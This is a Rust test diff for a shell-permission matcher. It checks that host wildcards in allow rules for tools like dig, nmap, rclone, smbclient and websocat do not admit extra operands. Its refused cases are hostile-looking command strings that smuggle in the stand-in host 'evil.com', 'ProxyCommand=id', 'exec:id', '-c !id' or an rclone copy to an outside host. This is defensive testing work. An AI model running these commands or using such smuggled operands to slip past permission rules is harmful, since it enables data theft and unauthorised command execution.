@@ -165,16 +165,50 @@ fn a_star_in_the_host_of_a_connection_stays_in_it() {
         ("ncat --proxy web-*:80 acme.com 80", "web-1"),
         ("ncat web-* 80", "web-1"),
         ("netcat web-* 80", "web-1"),
+        ("dig +short web-*", "web-1"),
+        ("dig -q web-*", "web-1"),
+        ("dig -t MX web-*", "web-1"),
+        ("dig @8.8.8.8 web-*", "web-1"),
+        ("dig @ns-* acme.com", "ns-1"),
+        ("dig web-*", "web-1"),
+        ("dig web-* MX", "web-1"),
         ("host web-*", "web-1"),
+        ("mongosh --host db-* app", "db-1"),
+        ("mongosh --host=db-* app", "db-1"),
+        ("mongosh mongodb://db-*/app", "db-1"),
+        ("mtr -r web-*", "web-1"),
+        ("nmap -sV -p 80 web-*", "web-1"),
+        ("nmap web-*", "web-1"),
         ("nslookup web-*", "web-1"),
+        ("ping6 -c 1 web-*", "web-1"),
+        ("ping6 web-*", "web-1"),
         ("ping -c 1 web-*", "web-1"),
         ("ping -nc1 web-*", "web-1"),
         ("ping web-*", "web-1"),
+        ("rclone copy notes nas-*:x", "nas-1"),
+        ("rclone ls nas-*:x", "nas-1"),
+        ("rdesktop -u bot web-*", "web-1"),
+        ("rdesktop web-*", "web-1"),
+        ("redis-cli -h db-*", "db-1"),
+        ("smbclient --list=srv-*", "srv-1"),
+        ("smbclient -L srv-*", "srv-1"),
+        ("smbclient //srv-*/x -c ls", "srv-1"),
+        ("ssh-copy-id -i k.pub bot@web-*", "web-1"),
+        ("ssh-copy-id web-*", "web-1"),
+        ("ssh-keyscan -t ed25519 web-*", "web-1"),
+        ("ssh-keyscan web-*", "web-1"),
+        ("sudo nmap web-*", "web-1"),
         ("sudo telnet web-*", "web-1"),
         ("telnet -4 web-* 80", "web-1"),
         ("telnet -l bot web-*", "web-1"),
         ("telnet web-*", "web-1"),
         ("telnet web-* 80", "web-1"),
+        ("tracepath web-*", "web-1"),
+        ("traceroute -m 5 web-*", "web-1"),
+        ("websocat wss://web-*/x", "web-1"),
+        ("whois -h whois-* acme.com", "whois-1"),
+        ("whois web-*", "web-1"),
+        ("wscat -c wss://web-*/x", "web-1"),
     ]);
     families(&[
         (
@@ -326,6 +360,88 @@ fn a_star_in_a_host_that_is_looked_up_stands_for_no_further_one() {
     ]);
 }
 
+/// Of these programs a further operand is a host, a file, a password or a command, and another option may do anything.
+#[test]
+fn a_star_in_the_host_of_a_program_stands_for_nothing_behind_it() {
+    for (head, granted, refused) in [
+        (
+            "dig",
+            &["+short", "MX", "mx +short +time=2"][..],
+            &["+domain=evil.com", "-f x", "-q evil.com", "-x 8.8.8.8", "@evil.com", "evil.com", "web-2", "MX evil.com"]
+                [..],
+        ),
+        ("dig @8.8.8.8", &["MX"], &["@evil.com", "evil.com"]),
+        (
+            "mongosh --host",
+            &["--quiet"],
+            &["--eval x", "--host evil.com", "--host=evil.com", "-f x.js", "app x.js", "mongodb://evil.com app"],
+        ),
+        ("mtr -r", &[], &["-F x", "-c 1", "evil.com"]),
+        ("nmap", &["-p 80", "-sV"], &["--proxies x", "--script x", "-iL x", "-oN x", "evil.com", "-p 80 evil.com"]),
+        ("ping6", &["-c 1"], &["-c evil.com", "evil.com"]),
+        ("rdesktop", &["-f"], &["-r disk:x=/", "-s sh", "evil.com"]),
+        ("smbclient -L", &["-N"], &["-I evil.com", "-c !id", "-A x"]),
+        ("ssh-copy-id", &["-n", "-p 22"], &["-F x", "-i x", "-o ProxyCommand=id", "evil.com"]),
+        ("ssh-keyscan", &["-p 22"], &["-f x", "-fx", "-p 22 evil.com", "evil.com"]),
+        ("sudo traceroute", &[], &["-g 10.0.0.1", "-g10.0.0.1", "evil.com"]),
+        ("tracepath", &[], &["evil.com"]),
+        ("traceroute", &[], &["--gateway=evil.com", "-g10.0.0.1", "evil.com"]),
+        ("whois", &[], &["--host=evil.com", "-h evil.com", "evil.com"]),
+    ] {
+        let call = |behind: &&str| format!("{head} web-1 {behind}");
+        let granted: Vec<String> = granted.iter().map(call).chain([format!("{head} web-1")]).collect();
+        let refused: Vec<String> = refused.iter().map(call).chain([format!("{head} web-1,evil")]).collect();
+        families(&[(&format!("{head} web-*"), &texts(&granted), &texts(&refused))]);
+    }
+    families(&[
+        (
+            "dig *.acme.com",
+            &["dig a.acme.com b.c.acme.com"],
+            &["dig a.acme.com evil.com b.acme.com", "dig evil/a.acme.com"],
+        ),
+        ("dig web-* +short", &["dig web-1 +short"], &["dig web-1 @evil.com +short", "dig web-1 evil.com +short"]),
+        ("dig -x 10.0.0.*", &["dig -x 10.0.0.7"], &["dig -x 10.0.0.evil.com", "dig -x 10.0.0.7 evil.com"]),
+        (
+            "mongosh app --eval *",
+            &["mongosh app --eval x"],
+            &["mongosh app --eval x y.js", "mongosh app --eval x -f y.js"],
+        ),
+        ("nmap -p * web-1", &["nmap -p 80,443 web-1"], &["nmap -p 80 evil.com web-1"]),
+        ("nmap 10.0.0.*", &["nmap 10.0.0.7"], &["nmap 10.0.0.0/8", "nmap 10.0.0.7,evil.com"]),
+        (
+            "rclone ls nas:docs/*",
+            &["rclone ls nas:docs/x"],
+            &[
+                "rclone ls nas:docs/../x",
+                "rclone ls nas:docs/x --config=x",
+                "rclone ls nas:docs/x --sftp-host=evil.com",
+                "rclone ls nas:docs/x :sftp,host=evil.com:x",
+            ],
+        ),
+        (
+            "rclone copy notes nas-*:x",
+            &[],
+            &["rclone copy notes nas-,host=evil.com:x", "rclone copy notes nas-1:y nas:x"],
+        ),
+        ("smbclient //srv-*/x", &["smbclient //srv-1/x"], &["smbclient //evil.com/srv-1/x", "smbclient //srv-1/x pw"]),
+        (
+            "websocat wss://web/*",
+            &["websocat wss://web/a"],
+            &["websocat wss://web/a exec:id", "websocat wss://web/a --exec-args id"],
+        ),
+        ("websocat wss://*.acme.com/x", &["websocat wss://a.acme.com/x"], &["websocat exec:id wss://a.acme.com/x"]),
+        (
+            "wscat -c wss://web/*",
+            &["wscat -c wss://web/a"],
+            &["wscat -c wss://web/a -c wss://evil.com/", "wscat -c wss://web/a -l 80", "wscat -c wss://web/a -x hi"],
+        ),
+    ]);
+    for program in ["dig", "mongosh", "mtr", "nmap", "rclone", "smbclient", "ssh-keyscan", "websocat", "whois", "wscat"]
+    {
+        grants(&allowing(&[&format!("Bash({program} *)")]), &[&format!("{program} a.b evil.com -x y")]);
+    }
+}
+
 /// `ftp` runs what is behind a `|`, and `lftp` what a line of its own commands says.
 #[test]
 fn a_star_for_a_client_of_files_stands_for_no_command_of_this_machine() {
@@ -347,4 +463,8 @@ fn a_star_for_a_client_of_files_stands_for_no_command_of_this_machine() {
         ("docker build -q *", &["docker build -q ."], &["docker build -q -"]),
         ("docker build *", &["docker build -"], &[]),
     ]);
+}
+
+fn texts(lines: &[String]) -> Vec<&str> {
+    lines.iter().map(String::as_str).collect()
 }
